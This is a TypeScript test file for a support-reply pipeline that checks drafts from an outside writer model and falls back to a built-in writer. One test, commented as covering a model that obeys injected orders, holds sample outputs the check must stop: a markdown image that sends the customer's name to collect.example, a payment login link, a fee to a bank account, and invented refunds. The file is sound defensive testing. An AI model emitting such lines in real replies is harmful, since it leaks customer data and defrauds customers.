import { describe, expect, it } from 'vitest';
import { checkerFor } from '../../../lib/desk/think';
import { defaultGuidance } from '../../../lib/guidance/default/default-guidance';
import { planReply } from '../../../lib/reply/plan/plan-reply';
import { emptyMemory } from '../../../lib/reply/write/phrase-memory';
import { WRITER, writeReply } from '../../../lib/reply/write/write-reply';
import { writeWith, type OtherWriter } from '../../../lib/reply/write/write-with';
import { casesEn } from '../../bench/cases-en';
import { aCase } from '../a-case';

const maya = aCase(casesEn[0]!);
const check = checkerFor({ ...maya, guidance: defaultGuidance, said: { toCustomer: [], byTeam: [] } }, maya.reading);
const input = {
  ...maya,
  plan: planReply({ ...maya, guidance: defaultGuidance }),
  guidance: defaultGuidance,
  memory: emptyMemory,
  seed: 1,
  check: (draft: { text: string; basedOn?: string | undefined }) => check(draft.text, draft.basedOn),
};
const embedded = writeReply(input).map((draft) => draft.text);
const never = () => new AbortController().signal;
const saying = (text: string): OtherWriter => ({ id: 'fake', write: async () => text });
const HONEST =
  "Hi Maya,\n\nI'm sorry: the router drops every evening, the reset did nothing, and the call we promised never came. I'm having the line tested and will tell you by 3 pm today when this will be fixed.\n\nPriya";

describe('writeWith', () => {
  it("takes the other writer's text, with the plan's evidence and reasons", async () => {
    const { drafts, fellBack } = await writeWith(saying(HONEST), input, never());
    expect(fellBack).toBeUndefined();
    for (const draft of drafts) {
      expect(draft).toMatchObject({ text: HONEST, writer: 'fake', planVersion: input.plan.version });
      expect(draft.evidence.length).toBeGreaterThan(2);
    }
  });

  it('hands over the plan, and what the embedded writer made of it', async () => {
    const asked: unknown[] = [];
    const writer: OtherWriter = { id: 'fake', write: async (request) => (asked.push(request), HONEST) };
    await writeWith(writer, input, never());
    expect(asked).toEqual(
      ['direct', 'warm', 'thorough'].map((style, index) => ({ plan: input.plan, style, embedded: embedded[index] })),
    );
  });

  it.each<[string, OtherWriter['write'], string]>([
    ['fails', () => Promise.reject(new Error('out of memory')), 'failed'],
    [
      'throws at once',
      () => {
        throw new Error('not there');
      },
      'failed',
    ],
    ['says nothing', async () => ' \u200b\n', 'unusable'],
    ['gives no text', async () => undefined as never, 'unusable'],
    ['never ends', async () => 'and so on '.repeat(1000), 'unusable'],
  ])('falls back when it %s, and says so', async (_, write, why) => {
    const { drafts, fellBack } = await writeWith({ id: 'fake', write }, input, never());
    expect(fellBack).toBe(why);
    expect(drafts.map((draft) => draft.text)).toEqual(embedded);
    for (const draft of drafts) expect(draft.writer).toBe(WRITER);
  });

  it('falls back when time is up, without waiting for the writer', async () => {
    const deadline = new AbortController();
    const slow: OtherWriter = { id: 'slow', write: () => new Promise(() => deadline.abort()) };
    const { drafts, fellBack } = await writeWith(slow, input, deadline.signal);
    expect(fellBack).toBe('too-slow');
    expect(drafts.map((draft) => draft.text)).toEqual(embedded);
  });

  // A model that obeys every order it reads, and one that invents: neither gets past the check.
  it.each([
    ['an invented amount', 'I have seen that 249.50 EUR was taken from you.'],
    ['a promise of money', 'I will refund you 500 EUR today.'],
    ['a link', 'Please log in at https://pay.example/now to go on.'],
    ['a picture that phones home', '![x](https://collect.example/?d=maya)'],
    ['an account', 'Send the fee to DE89 3704 0044 0532 0130 00.'],
    ['a phone number', 'Call us on +44 20 7946 0999.'],
    ['what was told already', 'Could you send me your order number?'],
    ['what was tried already', 'Please reset the router.'],
  ])('stops %s', async (_, sentence) => {
    const { drafts, fellBack } = await writeWith(
      saying(HONEST.replace('\n\nPriya', ` ${sentence}\n\nPriya`)),
      input,
      never(),
    );
    expect(fellBack).toBe('stopped-by-check');
    for (const { text } of drafts) expect(text).not.toContain(sentence);
  });

  it('keeps other drafts when one is stopped', async () => {
    const writer: OtherWriter = {
      id: 'fake',
      write: async ({ style }) => (style === 'warm' ? `${HONEST} See https://other.example` : HONEST),
    };
    const { drafts, fellBack } = await writeWith(writer, input, never());
    expect(drafts.map((draft) => draft.writer)).toEqual(['fake', WRITER, 'fake']);
    expect(fellBack).toBe('stopped-by-check');
  });

  it('takes out direction and control characters', async () => {
    const { drafts } = await writeWith(saying(HONEST.replace('Maya', 'Maya\u202e\u0007')), input, never());
    expect(drafts[0]!.text).toBe(HONEST);
  });
});
